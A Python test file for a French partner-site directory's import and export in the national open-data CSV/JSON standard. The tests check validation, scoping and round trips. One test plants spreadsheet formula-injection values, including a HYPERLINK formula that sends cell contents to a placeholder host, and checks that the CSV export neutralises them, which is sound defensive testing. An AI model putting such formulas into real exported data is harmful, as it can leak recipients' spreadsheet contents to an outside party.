"""Import and export of partner sites in the national open-data standard (Table Schema)."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from conftest import World, bearer, run
from pass_numerique.domain.errors import DomainError
from pass_numerique.domain.partners import site_directory, sites
from pass_numerique.domain.tables import AuditEvent, PartnerSite
from pass_numerique.http.errors import status_of
from test_staff_pages import login

# The national standard's own example file, copied with its licence note (tests/data/README.md).
EXAMPLE = Path(__file__).resolve().parent / "data/lieux-mediation-numerique-exemple.csv"


def example_rows() -> list[list[str]]:
    return list(csv.reader(io.StringIO(EXAMPLE.read_text("utf-8"))))


def as_csv(rows: list[list[str]], delimiter: str = ",") -> bytes:
    out = io.StringIO()
    csv.writer(out, delimiter=delimiter, lineterminator="\n").writerows(rows)
    return out.getvalue().encode()


def three_sites(bad_postal_code: bool = False) -> list[list[str]]:
    header, row = example_rows()
    rows = [header]
    for n in range(3):
        copy = list(row)
        copy[header.index("id")] = f"lieu-{n}"
        copy[header.index("nom")] = f"Lieu {n}"
        rows.append(copy)
    if bad_postal_code:
        rows[2][header.index("code_postal")] = "1600"
    return rows


def do_import(world: World, data: bytes, name: str = "lieux.csv", **kw) -> site_directory.ImportReport:
    return run(site_directory.import_sites(world.coordinator, data, name, world.north.id, **kw))


def test_the_published_example_imports_and_maps_onto_a_pending_site(world: World) -> None:
    report = do_import(world, EXAMPLE.read_bytes(), "exemple-valide.csv")
    assert report.errors == [] and (report.created, report.updated) == (1, 0)
    row = run(PartnerSite.select().where(PartnerSite.external_id == "structure-1").first())
    assert row["name"] == "Anonymal" and row["commune_name"] == "Reims" and row["postal_code"] == "51100"
    assert row["commune_insee"] == "51454" and row["siret"] == "43493312300029"
    assert row["contact_email"] == "contact@laquincaillerie.tl" and row["contact_phone"] == "+33180059880"
    assert row["address"].startswith("12 BIS RUE DE LECLERCQ, Le patio")
    assert row["accreditation_status"] == "pending" and row["territory"] == world.north.id
    # Importing again updates the same site.
    again = do_import(world, EXAMPLE.read_bytes(), "exemple-valide.csv")
    assert (again.created, again.updated) == (0, 1)
    assert run(PartnerSite.count().where(PartnerSite.external_id == "structure-1")) == 1
    assert run(AuditEvent.count().where(AuditEvent.action == "sites.import")) == 2


def test_one_bad_line_imports_nothing_and_says_where(world: World) -> None:
    before = run(PartnerSite.count())
    report = do_import(world, as_csv(three_sites(bad_postal_code=True)))
    assert [(e.line, e.column) for e in report.errors] == [(3, "code_postal")]
    assert "format invalide" in report.errors[0].message
    assert run(PartnerSite.count()) == before
    assert do_import(world, as_csv(three_sites())).created == 3


def test_deviations_of_files_from_the_field_are_read_with_warnings(world: World) -> None:
    header, row = example_rows()
    header = ["Itinerance" if h == "itinerance" else h for h in header]
    row = list(row)
    row[header.index("modalites_acces")] = "Se présenter;Téléphoner"
    report = do_import(world, b"\xef\xbb\xbf" + as_csv([header, row], delimiter=";"))
    assert report.errors == [] and report.created == 1
    messages = " ".join(w.message for w in report.warnings)
    assert "« ; » au lieu de « , »" in messages
    assert "« Itinerance » lu comme « itinerance »" in messages
    assert any(w.line == 2 and w.column == "modalites_acces" for w in report.warnings)


def test_whole_file_problems(world: World) -> None:
    header, row = example_rows()
    without_name = [[c for h, c in zip(header, r, strict=True) if h != "nom"] for r in ([header, row])]
    report = do_import(world, as_csv(without_name))
    assert report.errors[0].line == 1 and "nom" in report.errors[0].message
    duplicated = do_import(world, as_csv([header, row, row]))
    assert any(e.line == 3 and e.column == "id" for e in duplicated.errors)
    for data, name in ((b"", "vide.csv"), (b"\xff\xfe\x00", "latin.csv"), (b"{", "lieux.json")):
        with pytest.raises(DomainError) as refused:
            do_import(world, data, name)
        assert status_of(refused.value) == 422


def test_dry_run_counts_without_writing(world: World) -> None:
    report = do_import(world, as_csv(three_sites()), dry_run=True)
    assert report.dry_run and report.created == 3 and report.errors == []
    assert run(PartnerSite.count().where(PartnerSite.external_id.is_not_null())) == 0


def test_json_import_and_export_round_trip(world: World) -> None:
    header, row = example_rows()
    record = dict(zip(header, row, strict=True))
    record["services"] = record["services"].split("|")  # JSON files may carry lists
    assert do_import(world, json.dumps([record]).encode(), "lieux.json").created == 1
    exported = run(site_directory.export_sites(world.coordinator, "csv"))
    rows = list(csv.DictReader(io.StringIO(exported.decode())))
    assert [r["nom"] for r in rows] == sorted(r["nom"] for r in rows)
    ours = next(r for r in rows if r["id"] == "structure-1")
    assert site_directory.validate([ours]) == []  # a complete site exports to the national schema
    # The test world's sites have no address: exported as they are, the validator says what is missing.
    assert {e.column for e in site_directory.validate(rows)} <= {"adresse", "commune", "code_postal"}
    assert ours["pivot"] == "43493312300029" and ours["code_postal"] == "51100"
    assert next(r for r in rows if r["nom"] == "Médiathèque Nord")["pivot"] == site_directory.UNKNOWN_SIRET
    # Our own export of that site re-imports onto the same site.
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(ours), lineterminator="\n")
    writer.writeheader()
    writer.writerow(ours)
    again = do_import(world, out.getvalue().encode())
    assert again.errors == [] and (again.created, again.updated) == (0, 1)
    as_json = json.loads(run(site_directory.export_sites(world.coordinator, "json")))
    assert {r["id"] for r in as_json} == {r["id"] for r in rows}


def test_scope(world: World) -> None:
    data = EXAMPLE.read_bytes()
    with pytest.raises(DomainError) as other_territory:
        run(site_directory.import_sites(world.coordinator, data, "x.csv", world.south.id))
    assert other_territory.value.code == "forbidden"
    with pytest.raises(DomainError):
        run(site_directory.import_sites(world.issuer, data, "x.csv", world.north.id))
    run(site_directory.import_sites(world.admin, data, "x.csv", world.south.id))
    # The site now lives in the south: the northern coordinator may not overwrite it.
    report = do_import(world, data)
    assert report.errors and report.errors[0].column == "id"
    exported = run(site_directory.export_sites(world.coordinator, "csv")).decode()
    assert "Anonymal" not in exported and "Espace Sud" not in exported
    assert run(sites.get_site(world.admin, world.site_south.id)).name == "Espace Sud"


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.binary(max_size=400) | st.text(max_size=400).map(str.encode))
def test_any_bytes_get_a_report_or_a_clear_refusal(world: World, data: bytes) -> None:
    try:
        report = do_import(world, data, "x.csv", dry_run=True)
    except DomainError as refused:
        assert status_of(refused) == 422
    else:
        assert report.errors or report.rows >= 1


def test_the_csv_export_never_turns_a_cell_into_a_formula(world: World, client) -> None:
    run(
        sites.create_site(
            world.admin,
            sites.SiteCreate(
                name='=HYPERLINK("http://x.example/?d="&A1;"Cliquez")',
                territory_id=world.north.id,
                address="@SUM(1+1)",
                opening_hours="-2+3",
                commune_name="\tTab",
                contact_phone="+33180059880",
            ),
        )
    )
    login(client, world.coordinator)
    for answer in (
        client.get(
            "/api/v1/sites/export", params={"format": "csv"}, headers=bearer(client, world.coordinator)
        ),
        client.get("/staff/sites/export", params={"format": "csv"}),
    ):
        assert answer.status_code == 200, answer.text
        row = next(r for r in csv.DictReader(io.StringIO(answer.text)) if "HYPERLINK" in r["nom"])
        assert row["nom"] == '\'=HYPERLINK("http://x.example/?d="&A1;"Cliquez")'
        assert (row["adresse"], row["horaires"], row["commune"]) == ("'@SUM(1+1)", "'-2+3", "'\tTab")
        assert row["telephone"] == "+33180059880"  # a number, written as the national standard requires
        assert row["date_maj"][:1].isdigit()
    # JSON is data, not a spreadsheet: kept as entered.
    as_json = json.loads(run(site_directory.export_sites(world.coordinator, "json")))
    assert any(r["nom"].startswith("=HYPERLINK") for r in as_json)


def test_each_line_is_held_to_the_bounds_of_a_site_and_nothing_is_written(world: World) -> None:
    """A value PostgreSQL could not store (too long for its column, a NUL) is a line's error on both
    engines, with the bounds a form or the API applies (domain/bounds.py), never a 500."""
    rows = three_sites()
    header = rows[0]
    rows[1][header.index("nom")] = "N" * 201
    rows[2][header.index("commune")] = "Reims\x00"
    rows[3][header.index("id")] = "i" * 121
    before = run(PartnerSite.count())
    report = do_import(world, as_csv(rows))
    found = {(issue.line, issue.column) for issue in report.errors}
    assert found == {(2, "nom"), (3, "commune"), (4, "id")}, report.errors
    assert run(PartnerSite.count()) == before
    # The same through JSON, where a NUL arrives escaped.
    records = [dict(zip(header, row, strict=True)) for row in three_sites()[1:]]
    records[0]["adresse"] = "A" * 301
    records[1]["nom"] = "Lieu\u0000"
    report = do_import(world, json.dumps(records).encode(), "lieux.json")
    assert {(issue.line, issue.column) for issue in report.errors} == {(2, "adresse"), (3, "nom")}
    assert run(PartnerSite.count()) == before


def test_a_cell_past_the_csv_modules_limit_is_refused_as_an_unreadable_file(world: World) -> None:
    """``csv`` raised its own ``Error`` past 128 KiB in one cell: 500 before (until frictionless,
    once it has validated a file, lifts the limit for the whole process)."""
    header, _ = example_rows()
    data = ",".join(header).encode() + b"\n" + b"x" * 200_000 + b"\n"
    lifted = csv.field_size_limit(131_072)  # the csv module's default, as in a fresh process
    try:
        with pytest.raises(DomainError) as refused:
            do_import(world, data)
    finally:
        csv.field_size_limit(lifted)
    assert refused.value.code == "invalid_input" and refused.value.details["field"] == "file"
